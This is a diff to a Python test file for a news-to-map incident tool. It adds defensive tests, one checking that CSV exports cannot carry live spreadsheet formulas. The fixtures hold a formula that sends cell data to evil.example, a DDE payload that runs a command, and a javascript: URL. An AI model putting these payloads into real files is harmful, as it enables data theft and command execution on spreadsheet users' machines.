@@ -25,10 +25,12 @@ from geomap.errors import ArticleError, GeomapError
 
 ROOT = Path(__file__).resolve().parent.parent
 GEOMAP = [sys.executable, "-m", "geomap.cli"]
-TEXT = "Published: 2025-10-14\n\nPakistan closed the Torkham crossing on Sunday; traders in Peshawar waited. Café “Khyber” – 5 km.\n"
+TEXT = "Published: 2025-10-14\n\nPakistan closed the Torkham crossing on Sunday; traders in Peshawar waited. Café “Khyber” – 5 km.\n"  # noqa: E501
 
 
-def _run(args: list[str], *, timeout: float = 60, mem_limit: int | None = None) -> tuple[int, str, str, float, int]:
+def _run(
+    args: list[str], *, timeout: float = 60, mem_limit: int | None = None
+) -> tuple[int, str, str, float, int]:
     """Run the CLI in a child; return (exit code, stdout, stderr, seconds, peak RSS in kB).
 
     ``mem_limit`` (bytes) caps the child's address space so a runaway read dies
@@ -48,7 +50,13 @@ def _run(args: list[str], *, timeout: float = 60, mem_limit: int | None = None) 
     except subprocess.TimeoutExpired:
         proc.kill()
         out, err = proc.communicate()
-        return -9, out, err + f"\n[killed after {timeout} s: the command hung]", time.monotonic() - t0, 0
+        return (
+            -9,
+            out,
+            err + f"\n[killed after {timeout} s: the command hung]",
+            time.monotonic() - t0,
+            0,
+        )
     # proc is reaped by communicate(); RUSAGE_CHILDREN's ru_maxrss is the largest child so far,
     # so compare against a baseline measured the same way (see test_huge_file...).
     rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
@@ -65,19 +73,15 @@ def _assert_one_line_error(err: str, *, name: str, words: tuple[str, ...]) -> No
     assert any(w in line for w in words), f"expected one of {words} in: {line}"
 
 
-#: Bugs found by this file, still open (see the report in SECURITY.md's history / the
-#: issue 8 closing note).  strict=True: the test turns red the day the bug is fixed.
-BUG_NOT_REGULAR = pytest.mark.xfail(
+#: Bugs found by these tests and still open (SECURITY.md lists them).  strict=True: the
+#: test turns red the day the bug is fixed, so the mark gets removed.
+BUG_COUNTS = pytest.mark.xfail(
     strict=True,
-    reason="bug: articles.read_article checks st_size then read_bytes(); a character device "
-    "(st_size 0) is read until memory runs out and a FIFO blocks forever. Fix: refuse "
-    "non-regular files (stat.S_ISREG) and read at most max_bytes+1 bytes",
-)
-BUG_SURROGATES = pytest.mark.xfail(
-    strict=True,
-    reason="bug: articles.article_from_text hashes text.encode('utf-8') and raises "
-    "UnicodeEncodeError on lone surrogates (from JSON Lines '\\ud800' escapes). Fix: "
-    "raise ArticleError, or replace them (encode('utf-8', 'surrogatepass') / errors='replace')",
+    reason="bug: an article saying '99999999999999999999999999999999 people were killed' gets "
+    "that as fatalities (events.py); store.py's INSERT raises OverflowError (int > 2**63) and "
+    "the whole ingest stops with 'internal error', on every retry: one hostile article blocks "
+    "the feed. Fix: bound counts in events.py; in the store, skip an article that fails with "
+    "the reason instead of aborting the run",
 )
 
 
@@ -157,7 +161,9 @@ def test_unreadable_file_permission_denied_simulated(tmp_path, capsys, monkeypat
     _assert_one_line_error(cap.err, name=str(art), words=("permission denied",))
 
 
-@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores file modes; covered by the simulated test")
+@pytest.mark.skipif(
+    os.geteuid() == 0, reason="root ignores file modes; covered by the simulated test"
+)
 def test_unreadable_file_permission_denied_real(tmp_path, capsys):
     art = tmp_path / "secret.txt"
     art.write_text(TEXT, encoding="utf-8")
@@ -199,32 +205,37 @@ def test_huge_file_is_refused_fast_without_reading_it(tmp_path):
     assert rc == 3, err
     _assert_one_line_error(err, name=str(huge), words=("limit", "larger", "too large"))
     assert secs < 10, f"refusing a 100 MB file took {secs:.1f} s"
-    assert rss - baseline < 50_000, f"peak RSS grew by {(rss - baseline) / 1024:.0f} MB: the file was read"
+    assert rss - baseline < 50_000, (
+        f"peak RSS grew by {(rss - baseline) / 1024:.0f} MB: the file was read"
+    )
 
 
-@BUG_NOT_REGULAR
 @pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
 def test_endless_device_is_refused_not_read_forever(device):
     # st_size of a character device is 0, so a size check on stat() alone lets it through
-    # and read_bytes() never ends.  Capped at 800 MB of address space so a regression fails instead of
+    # and read_bytes() never ends.  Capped at 800 MB of address space: a regression fails instead of
     # exhausting the machine.
     if not os.path.exists(device):
         pytest.skip(f"{device} not present")
     rc, out, err, secs, _ = _run(["extract", device, "--json"], timeout=30, mem_limit=800_000_000)
     assert rc == 3, f"exit {rc} after {secs:.1f} s: {err.strip()[-300:]}"
-    _assert_one_line_error(err, name=device, words=("not a regular file", "limit", "larger", "binary"))
+    _assert_one_line_error(
+        err, name=device, words=("not a regular file", "limit", "larger", "binary")
+    )
     assert secs < 10
 
 
-@BUG_NOT_REGULAR
 @pytest.mark.parametrize("command", ["extract", "ingest"])
 def test_named_pipe_is_refused_not_waited_on(tmp_path, command):
     # A FIFO dropped into a feed must not hang an unattended run.  (Inside a
     # folder, ingest's walk ignores it; given by name, it is opened and read.)
     fifo = tmp_path / "article.txt"
     os.mkfifo(fifo)
-    args = ["extract", str(fifo), "--json"] if command == "extract" else [
-        "ingest", str(fifo), "--store", str(tmp_path / "s.gpkg"), "--no-progress"]
+    args = (
+        ["extract", str(fifo), "--json"]
+        if command == "extract"
+        else ["ingest", str(fifo), "--store", str(tmp_path / "s.gpkg"), "--no-progress"]
+    )
     rc, out, err, secs, _ = _run(args, timeout=5)
     assert rc != -9, f"geomap {command} hung on a FIFO"
     if command == "extract":
@@ -292,7 +303,6 @@ def read_article_text(raw: str) -> str:
 # ---------------------------------------------------------------- text that is not what it seems
 
 
-@BUG_SURROGATES
 @pytest.mark.parametrize(
     "raw",
     ["Torkham \ud800 was closed.", "Kabul \udfff\ud83d said"],
@@ -310,7 +320,11 @@ def test_lone_surrogates_are_a_geomap_error_or_handled(raw):
 
 
 def test_header_lines_cannot_inject_a_huge_or_odd_title():
-    raw = "Title: " + "<b>x</b>" * 10 + "\nURL: javascript:alert(1)\nPublished: 2025-10-14\n\nTorkham closed."
+    raw = (
+        "Title: "
+        + "<b>x</b>" * 10
+        + "\nURL: javascript:alert(1)\nPublished: 2025-10-14\n\nTorkham closed."
+    )
     a = article_from_text(raw)
     assert a.text == "Torkham closed."
     assert a.published.isoformat() == "2025-10-14"
@@ -329,7 +343,7 @@ def test_extract_json_of_an_article_full_of_markup_is_valid_json(tmp_path, capsy
         assert text[p["start"] : p["end"]] == p["mention"]
 
 
-# ---------------------------------------------------------------- ingest: skip with the reason; the store file
+# ------------------------------------------------ ingest: skip with the reason; the store file
 
 
 def _ingest(args: list[str], capsys) -> tuple[int, str, str]:
@@ -358,12 +372,14 @@ def test_ingest_of_a_folder_skips_bad_files_with_reasons_and_keeps_the_rest(tmp_
     )
     (feed / "empty.txt").write_bytes(b"")
     (feed / "binary.txt").write_bytes(b"\x00\x01\x02\x03")
-    (feed / "cp1252.txt").write_bytes("Published: 2025-10-16\n\nCaf\u00e9 owners in Quetta protested.".encode("cp1252"))
+    (feed / "cp1252.txt").write_bytes(
+        "Published: 2025-10-16\n\nCaf\u00e9 owners in Quetta protested.".encode("cp1252")
+    )
     (feed / "loop1.txt").symlink_to(feed / "loop2.txt")
     (feed / "loop2.txt").symlink_to(feed / "loop1.txt")
     (feed / "self").symlink_to(feed)  # a directory loop
     (feed / "lines.jsonl").write_text(
-        '{"text": 5}\nnot json\n{"text": "Chaman was closed on Friday.", "published": "2025-99-99"}\n'
+        '{"text": 5}\nnot json\n{"text": "Chaman was closed on Friday.", "published": "2025-99-99"}\n'  # noqa: E501
         '{"text": "Torkham reopened on Monday.", "published": "2025-10-16", "title": "<b>t</b>"}\n',
         encoding="utf-8",
     )
@@ -371,16 +387,35 @@ def test_ingest_of_a_folder_skips_bad_files_with_reasons_and_keeps_the_rest(tmp_
     rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
     assert rc == 0, err
     assert "Traceback" not in err
-    skipped = {ln.split(":")[0].split("skipped ", 1)[1] for ln in out.splitlines() if "skipped /" in ln}
+    skipped = {
+        ln.split(":")[0].split("skipped ", 1)[1] for ln in out.splitlines() if "skipped /" in ln
+    }
     for name in ("empty.txt", "binary.txt", "loop1.txt", "loop2.txt"):
         assert str(feed / name) in skipped, f"{name} not listed as skipped:\n{out}"
-    assert sum(str(feed / "lines.jsonl") in s for s in skipped) == 1  # one entry per line: path:line
+    assert (
+        sum(str(feed / "lines.jsonl") in s for s in skipped) == 1
+    )  # one entry per line: path:line
     assert len([ln for ln in out.splitlines() if "lines.jsonl:" in ln]) == 3
     ids = _stored_ids(store)
     assert read_article(good).id in ids and len(ids) == 4  # good, good2, cp1252, one JSON line
 
 
-@BUG_SURROGATES
+@BUG_COUNTS
+def test_one_article_with_an_absurd_count_does_not_block_the_feed(tmp_path, capsys):
+    feed = tmp_path / "feed"
+    feed.mkdir()
+    (feed / "a.txt").write_text(TEXT, encoding="utf-8")
+    (feed / "b.txt").write_text(
+        "Published: 2025-10-16\n\nClashes erupted near Torkham last week; "
+        "99999999999999999999999999999999 people were killed.\n",
+        encoding="utf-8",
+    )
+    store = tmp_path / "s.gpkg"
+    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
+    assert rc == 0, err
+    assert read_article(feed / "a.txt").id in _stored_ids(store)
+
+
 def test_ingest_jsonl_with_a_lone_surrogate_escape_skips_that_line(tmp_path, capsys):
     feed = tmp_path / "feed.jsonl"
     feed.write_text(
@@ -415,8 +450,10 @@ def test_corrupt_or_foreign_store_is_a_clear_error_and_never_overwritten(tmp_pat
     before = store.read_bytes()
     art = tmp_path / "a.txt"
     art.write_text(TEXT, encoding="utf-8")
-    for args in (["ingest", str(art), "--store", str(store), "--no-progress"],
-                 ["map", "--store", str(store), "-o", str(tmp_path / "out")]):
+    for args in (
+        ["ingest", str(art), "--store", str(store), "--no-progress"],
+        ["map", "--store", str(store), "-o", str(tmp_path / "out")],
+    ):
         rc = main(args)
         cap = capsys.readouterr()
         assert rc == 5, cap.err
@@ -453,11 +490,65 @@ def test_build_and_ingest_make_no_network_connection(tmp_path, capsys, monkeypat
     html = tmp_path / "page.html"
     html.write_text(
         "<html><head><script src='https://example.com/x.js'></script></head><body>"
-        "<img src='https://example.com/pixel.gif'><p>Pakistan closed the Torkham crossing on Sunday "
+        "<img src='https://example.com/pixel.gif'><p>Pakistan closed the Torkham crossing on Sunday "  # noqa: E501
         "after clashes near Landi Kotal, officials in Peshawar said.</p></body></html>",
         encoding="utf-8",
     )
     assert main(["build", *map(str, hostile), "-o", str(tmp_path / "out")]) == 0
-    assert main(["ingest", str(html), *map(str, hostile), "--store", str(tmp_path / "s.gpkg"), "--no-progress"]) == 0
+    assert (
+        main(
+            [
+                "ingest",
+                str(html),
+                *map(str, hostile),
+                "--store",
+                str(tmp_path / "s.gpkg"),
+                "--no-progress",
+            ]
+        )
+        == 0
+    )
     capsys.readouterr()
     assert attempts == []
+
+
+# ---------------------------------------------------------------- exports opened in spreadsheets
+
+BUG_CSV_FORMULA = pytest.mark.xfail(
+    strict=True,
+    reason="bug: export --format csv writes article text as-is, so a sentence starting with "
+    "'=HYPERLINK(...)' or '@SUM(...)' becomes a live formula in Excel/LibreOffice (CSV "
+    "injection, OWASP). Fix in export.py: prefix text cells starting with = + - @ TAB CR with "
+    "a single quote (and say so in the export docs)",
+)
+
+
+@BUG_CSV_FORMULA
+def test_csv_export_cells_cannot_start_a_spreadsheet_formula(tmp_path, capsys):
+    import csv
+
+    art = tmp_path / "a.txt"
+    art.write_text(
+        'Published: 2025-10-16\n\n=HYPERLINK("http://evil.example/?d="&A1,"Torkham") Pakistan closed the '  # noqa: E501
+        "Torkham crossing on Sunday after clashes.\n"
+        '@SUM(1+1)*cmd|"/C calc"!A0 Clashes near Chaman killed 3 people on Monday.\n',
+        encoding="utf-8",
+    )
+    store = tmp_path / "s.gpkg"
+    assert main(["ingest", str(art), "--store", str(store), "--no-progress", "-q"]) == 0
+    out = tmp_path / "incidents.csv"
+    assert main(["export", "--format", "csv", "--store", str(store), "-o", str(out), "-q"]) == 0
+    capsys.readouterr()
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    assert rows, "no incidents exported"
+    live = []
+    for row in rows:
+        for col, cell in row.items():
+            try:
+                float(cell)
+                continue  # numbers (a negative longitude) are data
+            except (TypeError, ValueError):
+                pass
+            if cell and cell[0] in "=+-@\t\r":
+                live.append((col, cell[:40]))
+    assert live == [], f"cells a spreadsheet would evaluate: {live}"
